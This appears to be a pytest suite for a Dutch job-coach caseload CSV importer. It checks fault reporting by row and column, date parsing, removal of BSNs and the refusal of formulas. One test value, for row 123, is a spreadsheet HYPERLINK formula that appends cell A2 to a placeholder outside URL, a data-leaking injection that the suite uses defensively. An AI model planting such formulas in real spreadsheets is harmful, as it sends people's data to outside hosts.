"""The export that an office really hands over: who comes in, and every fault in it by name."""

from collections import Counter
from datetime import date
from pathlib import Path

import pytest

from jobcoach.domain.assistentmedewerker import Vertegenwoordiging
from jobcoach.domain.caseload.caseload import Caseload, Persoonsrij
from jobcoach.domain.caseload.kolom import Kolom
from jobcoach.domain.caseload.read import read_caseload
from jobcoach.domain.plaatsing import SoortPlaatsing
from jobcoach.domain.voorziening import Wet
from jobcoach.domain.werkpost import SoortWerkpost
from jobcoach.spreadsheet.read import read_sheet
from tests.domain.caseload.lists import TODAY, Said, report

EXPORT = Path(__file__).parents[2] / "data" / "caseload-export.csv"
SKIPPED, EMPTY, TAKEN = "rij overgeslagen", "waarde leeg gelaten", "overgenomen"


@pytest.fixture(scope="module")
def caseload() -> Caseload:
    return read_caseload(read_sheet(EXPORT), today=TODAY)


@pytest.fixture(scope="module")
def people(caseload: Caseload) -> dict[int, Persoonsrij]:
    """By row."""
    return {person.row: person for person in caseload.personen}


def test_every_person_with_a_name_comes_in_once(caseload: Caseload) -> None:
    """The list counts 257 persons itself; one of them has no achternaam."""
    assert (caseload.read, len(caseload.personen), caseload.skipped) == (261, 256, 5)
    assert len({person.key for person in caseload.personen}) == 256
    assert {25, 102, 208, 233, 262} == set(range(2, 263)) - {one.row for one in caseload.personen}


def test_every_fault_in_the_list_is_reported_by_row_column_value_and_reason(
    caseload: Caseload,
) -> None:
    two_digits = "Een jaar in twee cijfers: gelezen als {} (en zo in nog {} rijen)."
    trede = "Een trede is een heel getal van 1 tot en met 6."
    no_such_day = "Deze dag bestaat niet (we lezen dag-maand-jaar)."
    filler = "Dit is een invulwoord en geen waarde."
    assert report(caseload) == [
        Said(1, "Geslacht", "", "Deze kop kennen we niet.", "kolom niet gelezen"),
        Said(1, "BSN", "", "Een BSN wordt nooit gelezen.", "kolom niet gelezen"),
        Said(
            2,
            "Wet",
            "Wmo",
            "'Wmo' met een indicatie is gelezen als Wmo maatwerk (en zo in nog 108 rijen).",
            TAKEN,
        ),
        Said(9, "Geboortedatum", "31-02-1990", no_such_day, EMPTY),
        Said(11, "Geboortedatum", "15-03-98", two_digits.format("15-03-1998", 9), TAKEN),
        Said(11, "Start plaatsing", "18-01-24", two_digits.format("18-01-2024", 9), TAKEN),
        Said(11, "Indicatie van", "26-03-26", two_digits.format("26-03-2026", 9), TAKEN),
        Said(11, "Indicatie t/m", "25-03-29", two_digits.format("25-03-2029", 7), TAKEN),
        Said(11, "Datum meting", "30-07-26", two_digits.format("30-07-2026", 9), TAKEN),
        Said(21, "Geboortedatum", "", "De geboortedatum ontbreekt.", EMPTY),
        Said(25, "Achternaam", "", "Zonder achternaam weten we niet wie dit is.", SKIPPED),
        Said(33, "Trede", "3/4", trede, EMPTY),
        Said(46, "Trede", "IV", trede, EMPTY),
        Said(54, "Trede", "4 - onbetaald werk", "Gelezen als trede 4 (onbetaald werk).", TAKEN),
        Said(62, "Trede", "7", trede, EMPTY),
        Said(
            73,
            "Indicatie t/m",
            "01-01-2020",
            "Het einde ligt voor het begin; er is geen voorziening overgenomen.",
            EMPTY,
        ),
        Said(85, "Werkteam", "Onbekend team", filler, EMPTY),
        Said(
            92,
            "Capaciteit",
            "11",
            "Op een werkpost is plaats voor 3 tot 8 personen.",
            "waarde uit andere rijen gebruikt",
        ),
        Said(102, "", "", "Lege rij.", SKIPPED),
        Said(104, "Dagdelen", "elke dag", "Hier kunnen we geen dagdelen uit lezen.", EMPTY),
        Said(113, "Start plaatsing", "12-13-2024", no_such_day, EMPTY),
        Said(
            123,
            "Bijzonderheden",
            '=HYPERLINK("http://example.invalid/?x="&A2;"klik")',
            "Dit is een formule. Formules worden nooit gelezen of uitgerekend.",
            EMPTY,
        ),
        Said(158, "Telefoon", "n.v.t.", filler, EMPTY),
        Said(163, "Geboortedatum", "14-07-2031", "Deze datum ligt in de toekomst.", EMPTY),
        Said(
            173,
            "Bijzonderheden",
            "x" * 80 + "…",
            "Deze tekst is langer dan 4000 tekens.",
            EMPTY,
        ),
        Said(
            208,
            "Cliëntnr",
            "21424",
            "Dubbel: staat ook in rij 203; Telefoon is anders.",
            SKIPPED,
        ),
        Said(
            233,
            "Achternaam",
            "Lopes",
            "Dubbel: staat ook in rij 213; Cliëntnr is anders.",
            SKIPPED,
        ),
        Said(262, "", "Totaal:", "Dit is een regel met totalen, geen persoon.", SKIPPED),
    ]


def test_a_fault_in_one_cell_keeps_the_rest_of_the_row(people: dict[int, Persoonsrij]) -> None:
    merle = people[9]
    assert (merle.persoon.roepnaam, merle.persoon.geboortedatum) == ("Merle", None)
    assert merle.plaatsing is not None
    assert merle.plaatsing.begin == date(2019, 8, 29)
    tess = people[33]
    assert (tess.meting, tess.werkpost) == (None, "Kwekerij Het Stekje")
    assert people[73].voorziening is None
    assert people[73].plaatsing is not None
    assert (people[85].werkteam, people[85].jobcoach) == ("", "Mats Gielen")
    elke_dag = people[104].plaatsing
    assert elke_dag is not None
    assert (elke_dag.dagdelenpatroon, elke_dag.uren_per_week) == ((), 8)
    sophia = people[113].plaatsing
    assert sophia is not None
    assert (sophia.begin, sophia.soort) == (None, SoortPlaatsing.ARBEIDSMATIGE_DAGBESTEDING)
    assert people[123].persoon.bijzonderheden == ""
    assert people[158].persoon.telefoon == ""
    assert people[163].persoon.geboortedatum is None
    assert people[173].persoon.bijzonderheden == ""


def test_one_row_has_everything_the_program_can_use(people: dict[int, Persoonsrij]) -> None:
    ali = people[4]
    assert ali.key == "clientnummer 20420"
    assert (ali.persoon.roepnaam, ali.persoon.tussenvoegsel, ali.persoon.achternaam) == (
        "Ali",
        "ter",
        "Aydin",
    )
    assert ali.persoon.geboortedatum == date(1967, 11, 25)
    assert (ali.persoon.adres, ali.persoon.postcode, ali.persoon.plaats) == (
        "Noorstraat 2",
        "6249 XY",
        "Arnhem",
    )
    assert ali.persoon.telefoon == "+31600009168"
    assert ali.persoon.bijzonderheden == "epilepsie, protocol in map"
    assert ali.persoon.vertegenwoordiging is Vertegenwoordiging.MENTOR
    assert (ali.werkpost, ali.werkteam, ali.jobcoach) == (
        "Werkpost Busremise",
        "Arnhem-Centrum",
        "Sterre Driessen",
    )
    assert ali.plaatsing is not None
    assert ali.plaatsing.soort is SoortPlaatsing.PROEFPLAATSING
    assert (ali.plaatsing.begin, ali.plaatsing.uren_per_week) == (date(2025, 3, 18), 32)
    assert ali.plaatsing.dagdelenpatroon == (
        "ma-ochtend",
        "ma-middag",
        "di-ochtend",
        "di-middag",
        "wo-ochtend",
        "do-ochtend",
        "vr-ochtend",
        "vr-middag",
    )
    assert ali.voorziening is not None
    assert (ali.voorziening.wet, ali.voorziening.nummer) == (Wet.JEUGDWET, "600692/4")
    assert (ali.voorziening.begin, ali.voorziening.einde) == (
        date(2026, 10, 25),
        date(2029, 10, 24),
    )
    assert ali.meting is not None
    assert (ali.meting.trede, ali.meting.datum) == (4, date(2026, 7, 17))
    assert ali.contactpersoon is not None
    assert (ali.contactpersoon.naam, ali.contactpersoon.relatie, ali.contactpersoon.telefoon) == (
        "Thomas Peeters",
        "mentor",
        "06-00008891",
    )


@pytest.mark.parametrize(
    "row, born",
    [
        (2, date(1994, 2, 10)),  # 10 feb 1994
        (3, date(1975, 5, 14)),  # 14-5-1975
        (4, date(1967, 11, 25)),  # 25-11-1967
        (11, date(1998, 3, 15)),  # 15-03-98
        (40, date(1964, 10, 12)),  # 12/10/1964
        (245, date(2006, 10, 26)),  # 26-10-06
    ],
)
def test_a_date_of_birth_is_read_in_all_five_styles(
    people: dict[int, Persoonsrij], row: int, born: date
) -> None:
    assert people[row].persoon.geboortedatum == born


def test_names_keep_their_letters_and_lose_their_spaces(people: dict[int, Persoonsrij]) -> None:
    achternamen = {person.persoon.achternaam for person in people.values()}
    assert "Müller-Özdemir" in achternamen
    assert people[143].persoon.roepnaam == "Pim"


def test_a_remark_over_several_lines_with_separators_and_quotes_stays_whole(
    people: dict[int, Persoonsrij],
) -> None:
    assert people[134].persoon.bijzonderheden == (
        'Eerste regel\nTweede regel; met puntkomma en "aanhalingstekens"'
    )


def test_two_people_with_the_same_name_both_come_in(people: dict[int, Persoonsrij]) -> None:
    for first, second in [(35, 145), (85, 196), (206, 252)]:
        assert people[first].persoon.roepnaam == people[second].persoon.roepnaam
        assert people[first].persoon.achternaam == people[second].persoon.achternaam


def test_what_the_whole_list_counts_up_to(caseload: Caseload) -> None:
    people = caseload.personen
    assert len(caseload.werkteams) == 10
    assert "Onbekend team" not in caseload.werkteams
    assert len(caseload.jobcoaches) == 16
    assert all(person.plaatsing and person.contactpersoon for person in people)
    assert sum(person.voorziening is not None for person in people) == 255
    assert sum(person.plaatsing.begin is not None for person in people if person.plaatsing) == 255
    assert Counter(person.meting.trede.value for person in people if person.meting) == {
        2: 7,
        3: 74,
        4: 99,
        5: 28,
    }
    born = [person for person in people if person.persoon.geboortedatum]
    assert len(born) == 256 - 3  # rows 9, 21 and 163
    assert Counter(person.persoon.vertegenwoordiging for person in people) == {
        None: 177,
        Vertegenwoordiging.MENTOR: 41,
        Vertegenwoordiging.BEWINDVOERDER: 38,
    }
    assert Counter(person.voorziening.wet for person in people if person.voorziening) == {
        Wet.WMO_MAATWERK: 108,
        Wet.WLZ: 75,
        Wet.PARTICIPATIEWET: 40,
        Wet.JEUGDWET: 32,
    }


def test_the_werkposten_are_those_of_the_list_each_once_and_complete(caseload: Caseload) -> None:
    posts = {post.naam: post for post in caseload.werkposten}
    assert len(posts) == len(caseload.werkposten) == 65
    assert all(post.soort and post.capaciteit and post.werkteam for post in posts.values())
    keuken = posts["Werkpost Ziekenhuiskeuken"]
    assert (keuken.capaciteit, keuken.soort) == (4, SoortWerkpost.BIJ_BEDRIJF)
    assert posts["Boekencafé De Bladwijzer"].werkteam == "Nijmegen-Noord"
    people_at = Counter(person.werkpost for person in caseload.personen)
    assert [
        name for name, count in people_at.items() if count > (posts[name].capaciteit or 0)
    ] == []


def test_no_bsn_leaves_the_reader(caseload: Caseload) -> None:
    text = EXPORT.read_text("windows-1252")
    bsns = {cell for line in text.splitlines() for cell in line.split(";") if cell[:3] == "999"}
    bsns = {cell for cell in bsns if len(cell) == 9}
    assert len(bsns) > 250
    everything = f"{read_sheet(EXPORT)} {caseload}"
    assert [bsn for bsn in bsns if bsn in everything] == []
    assert caseload.mapping[27] is Kolom.BSN


def test_reading_the_list_twice_gives_the_same(caseload: Caseload) -> None:
    assert read_caseload(read_sheet(EXPORT), today=TODAY) == caseload
